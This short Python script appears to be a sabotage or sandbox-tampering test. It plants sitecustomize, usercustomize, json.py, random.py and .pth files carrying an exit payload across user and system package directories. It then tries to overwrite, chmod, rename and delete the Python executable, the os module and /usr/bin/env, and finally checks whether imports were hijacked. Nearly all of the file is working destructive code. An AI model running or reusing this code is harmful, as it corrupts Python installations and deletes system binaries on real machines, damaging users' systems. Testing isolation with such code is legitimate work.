import os
import sys

SABOTAGE = "print('sabotage')\nimport os; os._exit(0)\n"
user = f"{os.environ['HOME']}/.local/lib/python3.11/site-packages"
for folder in (user, "/tmp", ".", "/usr/lib/python3/dist-packages", "/usr/lib/python3.11", os.path.dirname(__file__)):
    for name in ("usercustomize.py", "sitecustomize.py", "json.py", "random.py", "evil.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write(SABOTAGE)
        except OSError:
            pass
for path in (__file__, sys.executable, os.__file__, "/usr/bin/env"):
    for attempt in (lambda: open(path, "a"), lambda: os.chmod(path, 0o777), lambda: os.rename(path, path + "x"), lambda: os.unlink(path)):
        try:
            attempt()
            print("changed", path)
        except OSError:
            pass
import json
import random

print("right" if json.loads("1") == 1 and random.random() < 2 else "sabotage")
